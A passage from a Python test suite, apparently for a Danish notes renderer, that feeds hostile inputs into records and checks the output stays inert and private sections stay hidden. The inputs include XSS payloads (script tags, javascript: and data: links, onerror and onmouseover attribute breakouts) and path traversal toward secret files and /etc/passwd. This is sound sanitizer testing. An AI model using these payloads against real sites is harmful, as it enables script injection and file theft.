        record=note("Synligt <!--><script>alert(1)</script>--> efter"),
        visible=("Synligt", "efter"),
    ),
    Accepted(
        "javascript-link",
        record=note("[Kursus](javascript:alert(1)) slut"),
        visible=("Kursus slut",),
    ),
    Accepted(
        "entity-obfuscated-javascript-link",
        record=note("[Kursus](jav&#x61;script:alert(1)) og [to](&#106;avascript:alert(1))"),
        visible=("Kursus og to",),
    ),
    Accepted("data-link", record=note("[Kursus](data:text/html;base64,PHNjcmlwdD4=)"), visible=("Kursus",)),
    Accepted(
        "data-image",
        record=note("![billede](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
        visible=("![billede](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",),
    ),
    Accepted(
        "javascript-image",
        record=note("![billede](javascript:alert(1))"),
        visible=("![billede](javascript:alert(1))",),
    ),
    Accepted(
        "link-title-breakout",
        record=note('[Kursus](https://example.com/ "titel\\" onmouseover=\\"alert(1)")'),
        visible=("Kursus",),
    ),
    Accepted(
        "autolink-quote-breakout",
        record=note('<https://example.com/"onmouseover="alert(1)>'),
        visible=('https://example.com/"onmouseover="alert(1)',),
    ),
    Accepted(
        "attribute-list-in-heading",
        record=note('# Titel {: onclick="alert(1)" }\n\nTekst {: .x onmouseover="alert(1)" }'),
        visible=('Titel {: onclick="alert(1)" }', 'Tekst {: .x onmouseover="alert(1)" }'),
    ),
    Accepted(
        "snippet-include",
        record=note('--8<-- "{OUTSIDE}"\n\n;--8<-- "../../../../outside/secret.txt"'),
        visible=('--8<-- "{OUTSIDE}"',),
        absent=("OUTSIDE-SECRET-CONTENT",),
    ),
    Accepted(
        "parent-image-path",
        record=note("![hemmelig](../../../../outside/secret.png) og ![x](/etc/passwd)"),
        visible=("![hemmelig](../../../../outside/secret.png)", "![x](/etc/passwd)"),
        absent=("OUTSIDE-SECRET-PNG", "root:x:0:0"),
    ),
    Accepted(
        "entity-encoded-script",
        record=note("&#60;script&#62;alert(1)&#60;/script&#62;"),
        visible=("<script>alert(1)</script>",),
    ),
    Accepted(
        "control-characters-in-body",
        record=note("Kontrol\x01tegn\x07 og NUL\x00 og \x02wzxhzdk:0\x03 og &#2;wzxhzdk:1&#3; slut"),
        visible=("Kontroltegn og NUL og wzxhzdk:0 og wzxhzdk:1 slut",),
    ),
    Accepted(
        "bom-and-crlf",
        record=("\ufeff" + note("Windows-noter\nanden linje")).replace("\n", "\r\n").encode("utf-8"),
        visible=("Windows-noter anden linje",),
    ),
    Accepted(
        "10000-deep-blockquote",
        record=note(">" * 10_000 + " dybt"),
        visible=("dybt",),
    ),
    Accepted(
        "10000-brackets",
        record=note("[" * 10_000 + "x" + "]" * 10_000 + "(javascript:alert(1))"),
        visible=("[[[[x]]]]",),
    ),
    Accepted(
        "5000-brackets",
        record=note("[" * 5_000 + "x" + "]" * 5_000 + "(javascript:alert(1))\n\n" + "![" * 2_000),
        visible=("[[[[x]]]]", "]]]](javascript:alert(1))", "![![![![!["),
    ),
    Accepted(
        "huge-block-as-plain-text",
        record=note("\n".join(["<script>alert('stor')</script>"] + [f"linje {i}" for i in range(600)])),
        visible=("<script>alert('stor')</script> linje 0 linje 1",),
    ),
    Accepted(
        "html-in-agreement-fields",
        record=note(
            "Noter.",
            "agreements:\n"
            "  - id: kursus\n"
            "    what: \"<script>alert('aftale')</script>\"\n"
            "    owner: employee\n"
            "    deadline: 2026-12-01\n"
            "    note: '{: onclick=\"alert(1)\" } <img src=x onerror=alert(1)>'\n",
        ),
        visible=("<script>alert('aftale')</script>", '{: onclick="alert(1)" } <img src=x onerror=alert(1)>'),
    ),
    Accepted(
        "multi-line-block-scalar",
        record=note(
            "Noter.",
            "agreements:\n"
            "  - id: kursus\n"
            "    what: |\n"
            "      Linje et <b>fed</b>\n"
            "      </td></tr></table><script>alert('tabel')</script>\n"
            "    owner: employee\n"
            "    deadline: 2026-12-01\n",
        ),
        visible=("Linje et <b>fed</b> </td></tr></table><script>alert('tabel')</script>",),
    ),
    Accepted(
        "private-inline-and-value",
        record=note(
            "Offentligt <!-- private -->HEMMELIG-INLINE-TEKST<!-- /private --> igen",
            "private:\n  helbred: HEMMELIG-MAP-VAERDI\n  noter: [HEMMELIG-LISTE-VAERDI]\n",
        ),
        visible=("Offentligt igen",),
        absent=("HEMMELIG-INLINE-TEKST", "HEMMELIG-MAP-VAERDI", "HEMMELIG-LISTE-VAERDI"),
    ),
    # --- private markers fail closed: the well-formed ones in any case, other comments kept --
    Accepted(
        "private-markers-in-any-case",
        record=note(
            "Offentligt.\n\n<!-- PRIVATE -->\nHEMMELIG-STORE-BOGSTAVER\n<!-- / Private -->\n\n"
            "<!-- Privatliv og arbejde? -->\nSynligt efter kommentaren.\n\n"
            "<!--private-->HEMMELIG-UDEN-MELLEMRUM<!--/private--> slut"
        ),
        visible=("Offentligt.", "Synligt efter kommentaren.", "slut"),
        absent=("HEMMELIG-STORE-BOGSTAVER", "HEMMELIG-UDEN-MELLEMRUM", "Privatliv og arbejde"),
    ),
    # --- bodies of more blocks than Markdown reads in linear time: shown as plain text ----
    Accepted(
        "20000-paragraphs",
        record=note(
            "<script>alert('afsnit')</script>\n\n**fed**\n\n"
            + "\n\n".join(f"afsnit {i}" for i in range(20_000))
        ),
        visible=("<script>alert('afsnit')</script> **fed** afsnit 0 afsnit 1", "afsnit 19998 afsnit 19999"),
    ),
    Accepted(
        "5000-code-blocks",
        record=note("    <img src=x onerror=alert(1)>\n\n" * 5_000 + "slut"),
        visible=("<img src=x onerror=alert(1)> <img src=x onerror=alert(1)>", "slut"),
    ),
    Accepted(
        "100000-empty-lines",
        record=note("før [klik](javascript:alert(1))" + "\n" * 100_000 + "efter"),
        visible=("før [klik](javascript:alert(1)) efter",),
    ),
]
